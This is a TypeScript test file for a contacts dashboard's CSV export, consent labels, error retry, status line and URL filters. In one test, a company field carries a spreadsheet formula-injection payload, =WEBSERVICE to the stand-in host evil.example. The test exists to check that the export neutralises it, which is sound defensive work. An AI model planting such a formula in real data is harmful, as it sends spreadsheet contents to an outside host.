import { screen, within } from '@testing-library/react';
import { describe, expect, test, vi } from 'vitest';
import { fetchClient, type Schemas } from '@/api/client';
import { http } from '@mocks/handlers/context';
import { backend, server } from '@mocks/node';
import { defaultNotice, seedIds } from '@mocks/store';
import { captureDownloads } from '@tests/support/downloads';
import { accounts, loginAs, renderRoute } from '@tests/support/render';

/** Switches exchange on for the owner's full card, asking for a phone and a company. */
function exchangeOn() {
  backend.store.profileById(seedIds.fullCard)!.exchange = {
    enabled: true,
    fields: ['phone', 'company'],
    notice: defaultNotice,
    noticeVersion: 'v1',
    privacyUrl: '',
  };
}

/** A visitor leaves a contact on the full card through the mock backend (no session). */
async function leave(contact: Partial<Schemas['LeaveContactRequest']>) {
  const { response } = await fetchClient.POST('/api/profile/{profileId}/contacts', {
    params: { path: { profileId: seedIds.fullCard } },
    body: {
      name: 'Vera Visitor',
      marketingConsent: false,
      noticeVersion: 'v1',
      source: 'card',
      ...contact,
    },
  });
  expect(response.status).toBe(201);
}

/** Opens Contacts as the owner and exports the CSV: its text, and the page's userEvent. */
async function exportedCsv() {
  const { blobs } = captureDownloads('blob:csv');
  await loginAs(accounts.owner.email, accounts.owner.password);
  const { user } = renderRoute('/dashboard/contacts');
  const list = await screen.findByRole('list', { name: 'Contacts' });
  await within(list).findByText('Mallory');
  await user.click(screen.getByRole('button', { name: 'Export CSV' }));
  await vi.waitFor(() => expect(blobs).toHaveLength(1));
  return { csv: await blobs[0]!.text(), user };
}

describe('the Contacts CSV export', () => {
  test('no cell is a formula in a semicolon locale; the phone keeps its + as a tel: URI', async () => {
    exchangeOn();
    await leave({
      name: 'Mallory',
      phone: { code: 'IN', number: '9123456780' },
      company: 'Acme;=WEBSERVICE("https://evil.example/?"&A1)',
    });
    const { csv } = await exportedCsv();
    const row = csv.split('\r\n').find((line) => line.startsWith('Mallory,'));
    expect(row).toMatch(
      /^Mallory,,tel:\+919123456780,"Acme;'=WEBSERVICE\(""https:\/\/evil\.example\/\?""&A1\)",/,
    );
    // Split as Excel does in a semicolon locale (and on commas and TABs): no cell is a formula.
    const cells = csv.split(/[,;\t\r\n]/);
    expect(cells.filter((cell) => /^[ "]*[=+\-@]/.test(cell))).toEqual([]);
  });

  test('marketing consent is the visitor\'s word: "Unconfirmed" until the address is confirmed', async () => {
    exchangeOn();
    await leave({ name: 'Mallory', email: 'someone.else@example.com', marketingConsent: true });
    const priya = backend.store.state.contacts.find((c) => c.name === 'Priya Patel')!;
    priya.marketingConsentConfirmedAt = '2026-11-20T10:00:00.000Z';
    const consent = (csv: string, name: string) =>
      csv
        .split('\r\n')
        .find((line) => line.startsWith(`${name},`))
        ?.split(',')
        .at(-2);
    const { csv, user } = await exportedCsv();
    expect(csv.split('\r\n')[0]).toBe(
      'Name,Email,Phone,Company,Job title,Note,Card,Consent,Received',
    );
    expect([
      consent(csv, 'Mallory'),
      consent(csv, 'Priya Patel'),
      consent(csv, 'Sam Shah'),
    ]).toEqual(['Unconfirmed', 'Confirmed', 'No']);
    const list = screen.getByRole('list', { name: 'Contacts' });
    const mallory = within(list)
      .getAllByRole('listitem')
      .find((item) => within(item).queryByText('Mallory'))!;
    expect(mallory).toHaveTextContent('Marketing consent: Unconfirmed');
    await user.click(within(mallory).getByRole('button', { name: 'Details' }));
    const dialog = await screen.findByRole('dialog', { name: 'Mallory' });
    expect(dialog.textContent).toMatch(/Marketing consentUnconfirmed: the visitor ticked the box/);
  });
});

describe('a contact’s details', () => {
  test('name the notice’s version by its date when the server’s token is one, else not at all', async () => {
    exchangeOn();
    await leave({ name: 'Mallory', email: 'mallory@example.com' });
    const priya = backend.store.state.contacts.find((c) => c.name === 'Priya Patel')!;
    priya.noticeVersion = '2026-11-20T10:00:00.000Z';
    await loginAs(accounts.owner.email, accounts.owner.password);
    const { user } = renderRoute('/dashboard/contacts');
    const list = await screen.findByRole('list', { name: 'Contacts' });
    const open = async (name: string) => {
      const item = within(list)
        .getAllByRole('listitem')
        .find((entry) => within(entry).queryByText(name))!;
      await user.click(within(item).getByRole('button', { name: 'Details' }));
      return screen.findByRole('dialog', { name });
    };
    const mallory = await open('Mallory');
    // Its token is 'v1': no version a person could read.
    expect(within(mallory).getByText('Notice shown')).toBeInTheDocument();
    expect(mallory.textContent).not.toMatch(/v1/);
    await user.click(within(mallory).getByRole('button', { name: 'Close' }));
    const priyaDialog = await open('Priya Patel');
    expect(priyaDialog.textContent).toContain('Notice shown (version of Nov 20, 2026)');
  });
});

describe('a list that failed to load', () => {
  test('says so with the server’s message and loads again on Try again', async () => {
    exchangeOn();
    await leave({ name: 'Mallory', email: 'mallory@example.com' });
    server.use(
      http.get('/api/contacts', ({ response }) =>
        response(500).json({ success: false, message: 'Contacts are resting' }),
      ),
    );
    await loginAs(accounts.owner.email, accounts.owner.password);
    const { user } = renderRoute('/dashboard/contacts');
    const alert = await screen.findByRole('alert');
    expect(alert).toHaveTextContent('Contacts are resting');
    // The server is back.
    server.resetHandlers();
    await user.click(within(alert).getByRole('button', { name: 'Try again' }));
    const list = await screen.findByRole('list', { name: 'Contacts' });
    expect(await within(list).findByText('Mallory')).toBeInTheDocument();
    expect(screen.queryByRole('alert')).toBeNull();
  });
});

describe('the list’s status line', () => {
  test('says how many contacts match, and that none does, in the one status region', async () => {
    await loginAs(accounts.owner.email, accounts.owner.password);
    const { user } = renderRoute('/dashboard/contacts');
    const status = await screen.findByRole('status', { name: '' });
    await vi.waitFor(() => expect(status).toHaveTextContent(/^\d+ contacts?$/));
    await user.type(screen.getByRole('textbox', { name: 'Search' }), 'no such person at all');
    // The same element, so a screen reader hears the change.
    await vi.waitFor(() => expect(status).toHaveTextContent('No contact matches.'), {
      timeout: 3000,
    });
    expect(screen.getByRole('status', { name: '' })).toBe(status);
  });
});

describe('the list in the address', () => {
  test('the search and the card filter are written to the address, and a reload finds them', async () => {
    exchangeOn();
    await leave({ email: 'vera@example.com' });
    await loginAs(accounts.owner.email, accounts.owner.password);
    const { user, router } = renderRoute('/dashboard/contacts');
    await screen.findByRole('list', { name: 'Contacts' });
    await user.selectOptions(screen.getByRole('combobox', { name: 'Card' }), seedIds.fullCard);
    await user.type(screen.getByRole('textbox', { name: 'Search' }), 'Vera');
    await vi.waitFor(() =>
      expect(Object.fromEntries(new URLSearchParams(router.state.location.search))).toEqual({
        card: seedIds.fullCard,
        q: 'Vera',
      }),
    );
    expect(router.state.historyAction).toBe('REPLACE');
  });

  test('opens with the search and the card filter its address gives', async () => {
    exchangeOn();
    await leave({ email: 'vera@example.com' });
    await loginAs(accounts.owner.email, accounts.owner.password);
    renderRoute(`/dashboard/contacts?card=${seedIds.fullCard}&q=Vera`);
    expect(await screen.findByRole('textbox', { name: 'Search' })).toHaveValue('Vera');
    expect(screen.getByRole('combobox', { name: 'Card' })).toHaveValue(seedIds.fullCard);
    const list = await screen.findByRole('list', { name: 'Contacts' });
    await vi.waitFor(() => expect(within(list).getAllByRole('listitem')).toHaveLength(1));
    expect(within(list).getByText('Vera Visitor')).toBeInTheDocument();
  });
});
